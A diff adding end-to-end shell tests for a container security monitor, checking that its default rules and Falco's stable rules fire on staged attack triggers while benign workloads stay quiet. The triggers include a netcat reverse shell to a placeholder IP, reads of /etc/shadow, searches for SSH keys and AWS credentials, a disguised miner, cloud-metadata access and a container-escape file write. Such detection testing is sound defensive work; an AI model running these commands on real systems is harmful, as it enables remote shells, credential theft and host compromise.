@@ -337,6 +337,139 @@ t_seccomp_profiles() {
 	fi
 }
 
+# verdict RULE_NAME CONTAINER EXTRA_CONDITION: an INSECURE event of that rule
+verdict() {
+	expect "rule fires: $1" "$2" ".verdict == \"INSECURE\" and (.rules | index(\"$1\") != null) and (.output | length) > 0 and ${3:-true}"
+}
+
+t_default_rules() {
+	# on the actions of the tests above (the agent runs the default policy)
+	verdict "Sensitive file read" "$TAG-exec" \
+		'.reasons == "Unsafe:[opening sensitive file]" and .priority == "WARNING" and .output_fields["fd.name"] == "/etc/shadow"
+		 and (.tags | index("mitre_credential_access") != null)'
+	verdict "Connection outside the container networks" "$TAG-connect" '.net.remote.ip == "192.0.2.1"'
+	verdict "Binary not in the image executed" "$TAG-upper" '.exec.exe == "/tmp/true"'
+	verdict "Binary not in the image executed" "$TAG-memfd" '.exec.from_memfd == true'
+	run "$TAG-r-rev" -- sh -c 'cp /bin/vigil-testbin /tmp/python3 && /tmp/python3 dupsock'
+	verdict "Standard stream redirected to a socket" "$TAG-r-rev" '.process.name == "python3"'
+	verdict "Process attached with ptrace" "$TAG-priv"
+	verdict "Namespace changed in a running container" "$TAG-priv"
+	verdict "Mount in a running container" "$TAG-priv"
+	verdict "bpf() called in container" "$TAG-priv"
+	verdict "Set-uid bit set" "$TAG-mutate"
+	verdict "Link to a sensitive file" "$TAG-mutate"
+	verdict "io_uring set up in container" "$TAG-uring"
+	# triggers of their own
+	docker exec "$TAG-early" sh -c true >/dev/null 2>&1
+	verdict "Shell spawned in a running container" "$TAG-early" '.process.name == "sh"'
+	run "$TAG-r-etc" -- sh -c 'echo x > /etc/evil'
+	verdict "Write below a system directory" "$TAG-r-etc" '.file.path == "/etc/evil"'
+	run "$TAG-r-nc" -- nc -e /bin/sh 192.0.2.1 4444
+	verdict "Netcat with command execution" "$TAG-r-nc"
+	run "$TAG-r-miner" -- sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig --url stratum+tcp://192.0.2.1:3333'
+	verdict "Crypto miner started" "$TAG-r-miner"
+	run "$TAG-r-sock" -- vigil-testbin connect-unix /var/run/docker.sock
+	verdict "Container runtime socket contacted" "$TAG-r-sock" '.net.unix_path == "/var/run/docker.sock"'
+	run "$TAG-r-meta" -- vigil-testbin connect 169.254.169.254 80
+	verdict "Cloud metadata service contacted" "$TAG-r-meta"
+	run "$TAG-r-pkt" -- vigil-testbin packet-socket
+	verdict "Packet socket created" "$TAG-r-pkt"
+	run "$TAG-r-esc" -- sh -c 'echo x > /tmp/release_agent'
+	verdict "Container escape file written" "$TAG-r-esc"
+	run "$TAG-r-log" -- sh -c 'mkdir -p /var/log && echo x > /var/log/app.log'
+	verdict "Log files truncated" "$TAG-r-log"
+	run "$TAG-r-cap" --cap-add SYS_ADMIN -- true
+	verdict "Container runs with dangerous capabilities" "$TAG-r-cap"
+	run "$TAG-r-hmount" -v /etc:/hostetc:ro -- cat /hostetc/hostname
+	verdict "Sensitive host path mounted in container" "$TAG-r-hmount" '.output_fields["fd.mount_root"] == "/etc"'
+	run "$TAG-r-hwrite" -v "$WORK/hostdir:/data" -- sh -c 'echo x > /data/out'
+	verdict "Write to a host mount" "$TAG-r-hwrite"
+}
+
+# Ordinary container life: nothing INSECURE.
+t_benign_normal() {
+	local srv=$TAG-b-web cli=$TAG-b-cli c=$TAG-b-misc n
+	docker run -d --name "$srv" --network "$NET" --ip 172.31.250.20 "$IMG" \
+		sh -c 'mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www' >/dev/null
+	sleep 1
+	docker run --name "$cli" --network "$NET" "$IMG" \
+		sh -c 'for i in 1 2 3; do wget -q -O - http://172.31.250.20:8080/index.html; done' >>"$WORK/containers.log" 2>&1
+	run "$c" -- sh -c 'cat /etc/hosts /etc/resolv.conf /etc/passwd >/dev/null; echo data > /tmp/file;
+		mkdir -p /tmp/d && mv /tmp/file /tmp/d/ && rm -r /tmp/d; ls / >/dev/null; sh -c "echo nested" >/dev/null'
+	expect "(benign client finished)" "$cli" '.type == "container_exit"' >/dev/null
+	expect "(benign workload finished)" "$c" '.type == "container_exit"' >/dev/null
+	n=$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
+		'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE")' "$OUT" | wc -l)
+	if [ "$n" = 0 ] && [ -n "$(events "$cli" '.type == "connect" and .net.remote.port == 8080 and .verdict == "NORMAL"')" ] &&
+	   [ -n "$(events "$srv" '.type == "accept" and .verdict == "NORMAL"')" ]; then
+		ok "benign: web server and client, entrypoint scripts, /etc/hosts, /tmp writes stay NORMAL"
+	else
+		fail "benign workloads stay NORMAL" "$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
+			'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE") | [.container.name, .type, .rules, .output]' "$OUT" | head -5)"
+	fi
+}
+
+# Falco's stable rules, unmodified, on their triggers: which fire.
+t_falco_rules() {
+	local fout=$WORK/falco.json ferr=$WORK/falco.err pid fired expected missing r
+	"$VIGIL" run --rules "$ROOT/../shared/falco/falco_rules.yaml" --alerts-only --output json \
+		--output-file "$fout" --summary-interval 0 >/dev/null 2>"$ferr" &
+	pid=$!
+	for _ in $(seq 100); do grep -q watching "$ferr" 2>/dev/null && break; sleep 0.1; done
+	docker run --rm --network none "$IMG" cat /etc/shadow >/dev/null 2>&1
+	docker run --rm --network none "$IMG" cat /etc/../etc/../etc/shadow >/dev/null 2>&1
+	docker run --rm --network none -t "$IMG" sh -c true >/dev/null 2>&1
+	docker run --rm --network none "$IMG" nc -e /bin/sh 192.0.2.1 4444 >/dev/null 2>&1
+	docker run --rm --network none "$IMG" find /etc -name id_rsa >/dev/null 2>&1
+	docker run --rm --network none "$IMG" find / -path /root/.aws/credentials >/dev/null 2>&1
+	docker run --rm --network none "$IMG" sh -c 'mkdir -p /var/log && echo > /var/log/syslog' >/dev/null 2>&1
+	# as the entrypoint: busybox sh runs some applets without an exec
+	docker run --rm --network none "$IMG" shred -n 1 /etc/group >/dev/null 2>&1
+	docker run --rm --network none "$IMG" ln -s /etc/shadow /tmp/l >/dev/null 2>&1
+	docker run --rm --network none "$IMG" ln /etc/shadow /tmp/h >/dev/null 2>&1
+	docker run --rm --network none "$IMG" vigil-testbin packet-socket >/dev/null 2>&1
+	docker run --rm --network none "$IMG" vigil-testbin dupinet >/dev/null 2>&1
+	docker run --rm --network none --cap-add SYS_ADMIN "$IMG" sh -c 'echo x > /tmp/release_agent' >/dev/null 2>&1
+	docker run --rm --network none "$IMG" vigil-testbin priv >/dev/null 2>&1
+	docker run --rm --network none "$IMG" vigil-testbin traceme >/dev/null 2>&1
+	docker run --rm --network none --tmpfs /dev/shm:exec "$IMG" sh -c 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' >/dev/null 2>&1
+	docker run --rm --network none "$IMG" sh -c 'cp /bin/busybox /tmp/x && /tmp/x true' >/dev/null 2>&1
+	docker run --rm --network none "$IMG" vigil-testbin memfd-exec /bin/busybox >/dev/null 2>&1
+	sleep 2
+	kill -TERM "$pid"
+	wait "$pid"
+	fired=$(jq -r '.rules[]?' "$fout" 2>/dev/null | sort -u)
+	echo "# Falco stable rules that fired:"
+	echo "$fired" | sed 's/^/#   /'
+	expected="Read sensitive file untrusted
+Directory traversal monitored file read
+Terminal shell in container
+Netcat Remote Code Execution in Container
+Search Private Keys or Passwords
+Find AWS Credentials
+Clear Log Activities
+Remove Bulk Data from Disk
+Create Symlink Over Sensitive Files
+Create Hardlink Over Sensitive Files
+Packet socket created in container
+Redirect STDOUT/STDIN to Network Connection in Container
+Detect release_agent File Container Escapes
+PTRACE attached to process
+PTRACE anti-debug attempt
+Execution from /dev/shm
+Drop and execute new binary in container
+Fileless execution via memfd_create"
+	missing=""
+	while read -r r; do
+		echo "$fired" | grep -qxF "$r" || missing="$missing [$r]"
+	done <<<"$expected"
+	if [ -z "$missing" ] && grep -q "22 loaded, 3 skipped" "$ferr"; then
+		ok "falco: the stable rules load (22 of 25, 3 skipped with a warning) and 18 fire on their triggers"
+	else
+		fail "falco: stable rules load and fire" "did not fire:$missing" "$(grep rules: "$ferr")"
+	fi
+}
+
 t_host_not_reported() {
 	cat /etc/hostname >/dev/null
 	local marker=$TAG-marker
@@ -402,9 +535,12 @@ t_hostile_input
 t_preexisting_container
 t_short_lived
 t_seccomp_profiles
+t_default_rules
+t_benign_normal
 t_host_not_reported
 t_stats_command
 t_json_valid_and_shutdown
+t_falco_rules
 
 echo "e2e: $passed passed, $failed failed"
 [ "$failed" = 0 ]
